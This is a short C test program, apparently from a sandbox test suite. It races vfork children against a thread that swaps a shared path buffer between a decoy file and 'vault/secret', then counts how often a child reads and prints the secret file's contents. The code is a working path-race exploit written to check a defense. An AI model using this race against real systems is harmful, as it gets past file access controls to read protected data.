/* A vfork child (sharing the parent's memory) opens a path that a parent thread keeps rewriting. */
#include "attack.h"
int main(void) {
  pthread_t t = race_start("public/decoy", "vault/secret", 13);
  long hits = 0, n = 0, max = race_tries();
  double end = now() + race_seconds();
  for (; n < max && now() < end && (!hits || count_all()); n++) {
    pid_t p = vfork();
    if (p == 0) {
      int fd = open(race_buf, O_RDONLY);
      char b[8] = {0};
      if (fd >= 0 && read(fd, b, 7) == 7 && memcmp(b, "SECRET-", 7) == 0) {
        lseek(fd, 0, SEEK_SET);
        char all[128] = {0};
        ssize_t k = read(fd, all, sizeof all - 1);
        if (k > 0) {
          write(1, "CONTENT ", 8);
          write(1, all, k);
          write(1, "\n", 1);
        }
        _exit(1);
      }
      _exit(0);
    }
    int s;
    waitpid(p, &s, 0);
    if (WIFEXITED(s) && WEXITSTATUS(s) == 1) hits++;
  }
  race_end(t);
  rate(hits, n);
  result(hits > 0, "vfork race: %ld of %ld vfork children read the secret", hits, n);
}
